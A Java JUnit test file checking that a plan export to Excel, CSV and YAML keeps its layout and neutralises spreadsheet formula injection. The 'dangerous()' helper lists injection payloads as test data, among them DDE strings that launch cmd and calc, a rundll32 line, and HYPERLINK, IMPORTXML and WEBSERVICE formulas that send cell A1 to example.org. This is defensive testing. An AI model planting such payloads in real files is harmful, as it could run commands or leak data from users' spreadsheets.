package org.waymark.document;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.yaml.YAMLMapper;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.IntStream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.waymark.document.paper.OpenXml;
import org.waymark.plan.PlanDocument;
import org.waymark.platform.StrictJson;
import org.waymark.progress.Band;
import org.waymark.update.ActionView;

/** The plan as Excel, CSV and YAML, opened again as spreadsheets and programs open them. */
class PlanFilesTest {

    private static final int STRINGS = 200;
    private static final int HEAD = 3;

    private final ExampleSummary example = new ExampleSummary();

    @Test
    void theExcelFileKeepsToTheSchemasAndIsTheSameEachTime() throws Exception {
        byte[] file = PlanInExcel.of(paper(List.of("Run the IRIS programme")));
        assertEquals(List.of(), OpenXml.faults(file));
        assertArrayEquals(file, PlanInExcel.of(paper(List.of("Run the IRIS programme"))));
    }

    @Test
    void everySheetIsATableThatPrintsOnAFour() throws IOException {
        XSSFWorkbook workbook = excel(List.of("Run the IRIS programme"));
        assertEquals(
                "en-GB",
                workbook.getProperties()
                        .getCoreProperties()
                        .getUnderlyingProperties()
                        .getLanguageProperty()
                        .orElseThrow());
        assertEquals(
                "Example & plan", workbook.getProperties().getCoreProperties().getTitle());
        assertEquals(List.of("Overall", "By objective", "Plan"), names(workbook));
        for (int i = 0; i < workbook.getNumberOfSheets(); i++) {
            XSSFSheet sheet = workbook.getSheetAt(i);
            assertEquals(1, sheet.getTables().size());
            assertTrue(sheet.getTables().get(0).getCTTable().isSetAutoFilter());
            assertEquals(HEAD + 1, sheet.getPaneInformation().getHorizontalSplitPosition());
            assertEquals(HEAD, sheet.getRepeatingRows().getFirstRow());
            assertEquals(9, sheet.getPrintSetup().getPaperSize());
            assertTrue(sheet.getPrintSetup().getLandscape() && sheet.getFitToPage());
            assertEquals(1, sheet.getPrintSetup().getFitWidth());
            assertEquals(0, sheet.getPrintSetup().getFitHeight());
            assertEquals(List.of(), sheet.getMergedRegions());
            assertEquals(
                    "Demonstration data: not real performance",
                    sheet.getHeader().getRight());
            assertEquals("Example && plan", sheet.getFooter().getLeft());
            assertTrue(sheet.getRow(1).getCell(0).getStringCellValue().contains("Draft: live figures on"));
        }
    }

    @Test
    void figuresAreNumbersAndBandsHaveTheirColourBesideTheirWords() throws IOException {
        XSSFSheet overall = excel(List.of("x")).getSheet("Overall");
        XSSFCell label = overall.getRow(HEAD + 1).getCell(0);
        assertEquals("Requires partnership attention", label.getStringCellValue());
        assertEquals(
                "FFFBE3E0", label.getCellStyle().getFillForegroundColorColor().getARGBHex());
        assertEquals(3, overall.getRow(HEAD + 1).getCell(2).getNumericCellValue());
        assertEquals(38, overall.getRow(HEAD + 1).getCell(4).getNumericCellValue());
        assertEquals("3/8 (38%)", overall.getRow(HEAD + 1).getCell(5).getStringCellValue());
        XSSFSheet plan = excel(List.of("x")).getSheet("Plan");
        Row row = plan.getRow(HEAD + 1);
        assertEquals(CellType.NUMERIC, row.getCell(9).getCellType());
        assertEquals("1.1", row.getCell(0).getStringCellValue());
        assertEquals("Red", row.getCell(11).getStringCellValue());
        assertTrue(row.getCell(8).getStringCellValue().startsWith("Red\nBoth posts were advertised again."));
    }

    @Test
    void whatASpreadsheetCouldRunIsInertAndComesBackExactly() throws IOException {
        List<String> strings = dangerous();
        Map<String, Integer> csvColumns = new HashMap<>();
        List<CSVRecord> csv = CSVFormat.RFC4180
                .parse(new StringReader(new String(PlanInCsv.of(paper(strings)), StandardCharsets.UTF_8).substring(1)))
                .getRecords();
        IntStream.range(0, csv.get(0).size())
                .forEach(i -> csvColumns.put(csv.get(0).get(i), i));
        XSSFSheet excel = excel(strings).getSheet("Plan");
        for (int i = 0; i < STRINGS; i++) {
            String inert = csv.get(i + 1).get(csvColumns.get("Outcome"));
            assertTrue("=+-@\t\r\n＝＋－＠".indexOf(inert.strip().isEmpty() ? '\t' : inert.charAt(0)) < 0, inert);
            assertEquals(strings.get(i), asItWas(inert));
            Cell cell = excel.getRow(HEAD + 1 + i).getCell(3);
            assertEquals(CellType.STRING, cell.getCellType());
            assertEquals(strings.get(i), cell.getStringCellValue());
            assertEquals(
                    CsvFile.beginsFormula(strings.get(i)), cell.getCellStyle().getQuotePrefixed());
        }
    }

    @Test
    void whatBeganWithAQuoteIsToldFromWhatWasGivenOne() {
        for (String words : List.of("'=1", "''=1", "'tis", "'", "", "'\t=1", "= 1", "no=1")) {
            CsvFile file = new CsvFile("words");
            file.row(words);
            String cell = new String(file.bytes(), StandardCharsets.UTF_8).split("\r\n", 2)[1];
            assertEquals(words, asItWas(cell.substring(1, cell.length() - 3)));
        }
    }

    @Test
    void thePlanDocumentComesBackFromYamlAsItWasPut() throws IOException {
        ObjectMapper yaml = new YAMLMapper();
        StrictJson.configure(yaml);
        for (String key : List.of("barnet-davawg", "example-borough")) {
            PlanDocument plan = ActionOnPaperTest.plan(key);
            assertEquals(plan, yaml.readValue(PlanInYaml.of(plan), PlanDocument.class));
        }
    }

    @Test
    void whatIsTooLongForACellIsCutAndSaysSo() throws IOException {
        Cell cell = excel(List.of("x".repeat(40_000)))
                .getSheet("Plan")
                .getRow(HEAD + 1)
                .getCell(3);
        assertTrue(cell.getStringCellValue().endsWith("the rest stands in the plan)"));
    }

    /** Beginnings, with blanks and quotes before some, and what follows them in the wild; the same each time. */
    private static List<String> dangerous() {
        Random chance = new Random(4);
        List<String> before = List.of("", "", "", " ", "\u00A0", "'", "''", "\t", "\r", "\n", "\r\n", " '");
        List<String> signs = List.of("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "=-", "@=");
        List<String> after = List.of(
                "1+1",
                "cmd|' /C calc'!A0",
                "HYPERLINK(\"http://example.org?x=\"&A1,\"Click\")",
                "SUM(1,2)*cmd|' /C calc'!A0",
                "DDE(\"cmd\";\"/C calc\";\"x\")",
                "IMPORTXML(CONCAT(\"http://example.org\",A1), \"//a\")",
                "WEBSERVICE(\"http://example.org\")",
                "rundll32|'URL.dll,OpenURL calc.exe'!A",
                "1;=1+1",
                "1\",=1+1,\"",
                "_x000D_ _x003D_1",
                "2\r\n=3",
                "é✓😀",
                "");
        List<String> strings = new ArrayList<>();
        while (strings.size() < STRINGS) {
            strings.add(any(before, chance) + any(signs, chance) + any(after, chance));
        }
        return strings;
    }

    private static String any(List<String> of, Random chance) {
        return of.get(chance.nextInt(of.size()));
    }

    private XSSFWorkbook excel(List<String> outcomes) throws IOException {
        return new XSSFWorkbook(new ByteArrayInputStream(PlanInExcel.of(paper(outcomes))));
    }

    private static List<String> names(XSSFWorkbook workbook) {
        return IntStream.range(0, workbook.getNumberOfSheets())
                .mapToObj(workbook::getSheetName)
                .toList();
    }

    /** The example's first action once for each outcome. */
    private PlanOnPaper paper(List<String> outcomes) {
        Summary summary = example.forWhom(ForWhom.DELIVERY_GROUP);
        ActionView view = summary.told().actions().get(0);
        List<PlanOnPaper.Row> rows = outcomes.stream()
                .map(outcome -> new PlanOnPaper.Row(
                        new ActionOnPaper(
                                "1.1",
                                view.focus(),
                                "Action",
                                outcome,
                                List.of("Housing", "Police"),
                                List.of("Measure"),
                                List.of("Quarterly", "2021-24"),
                                List.of()),
                        view.position(),
                        "Red",
                        "Requires partnership attention",
                        summary.tint(Band.ATTENTION),
                        UpdateOnPaper.of(view, null, summary)))
                .toList();
        return new PlanOnPaper(
                summary, "example", "Example & plan", null, List.of(new PlanOnPaper.Section(1, "Prevention", rows)));
    }

    /** A text that was made inert, as it was before. */
    private static String asItWas(String cell) {
        return cell.startsWith("'") && CsvFile.beginsFormula(cell) ? cell.substring(1) : cell;
    }
}
